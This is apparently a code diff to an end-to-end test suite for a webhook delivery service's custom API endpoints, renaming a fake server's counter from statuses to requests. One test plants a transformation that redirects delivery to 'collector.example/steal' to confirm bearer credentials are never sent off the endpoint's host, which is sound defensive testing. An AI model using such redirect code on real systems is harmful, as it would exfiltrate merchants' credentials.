@@ -156,7 +156,7 @@ describe('Custom API end to end: card → API → delivery → your API (fake)',
 
   it('unusable credentials for the scheme are a credentials failure, and nothing is sent', async () => {
     const { appId } = await createCardEndpoint('basic', credentialsFor('basic', { username: 'has:colon' }));
-    const before = fakes.basic.statuses.length;
+    const before = fakes.basic.requests.length;
     const message = await svix.message.create(appId, {
       eventType: 'payment.succeeded',
       payload: findEventType('payment.succeeded')!.example,
@@ -165,14 +165,14 @@ describe('Custom API end to end: card → API → delivery → your API (fake)',
       (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
     await expect.poll(async () => (await attempts()).length, { timeout: 10_000 }).toBeGreaterThan(0);
     expect((await attempts())[0]!.response).toMatch(/credentials are incomplete: .*colon/);
-    expect(fakes.basic.statuses.length).toBe(before);
+    expect(fakes.basic.requests.length).toBe(before);
   });
 
   it('never sends the credentials to a host other than the endpoint’s', async () => {
     const { appId, endpoint } = await createCardEndpoint('bearer');
     const elsewhere = 'function handler(w) { w.url = "https://collector.example/steal"; return w; }';
     await svix.endpoint.transformation.patch(appId, endpoint.id, { code: elsewhere });
-    const before = fakes.bearer.statuses.length;
+    const before = fakes.bearer.requests.length;
     const message = await svix.message.create(appId, {
       eventType: 'payment.succeeded',
       payload: findEventType('payment.succeeded')!.example,
@@ -183,6 +183,6 @@ describe('Custom API end to end: card → API → delivery → your API (fake)',
     expect((await attempts())[0]!.response).toMatch(
       /only sent to bearer\.merchant\.example.*not to collector\.example/,
     );
-    expect(fakes.bearer.statuses.length).toBe(before);
+    expect(fakes.bearer.requests.length).toBe(before);
   });
 });
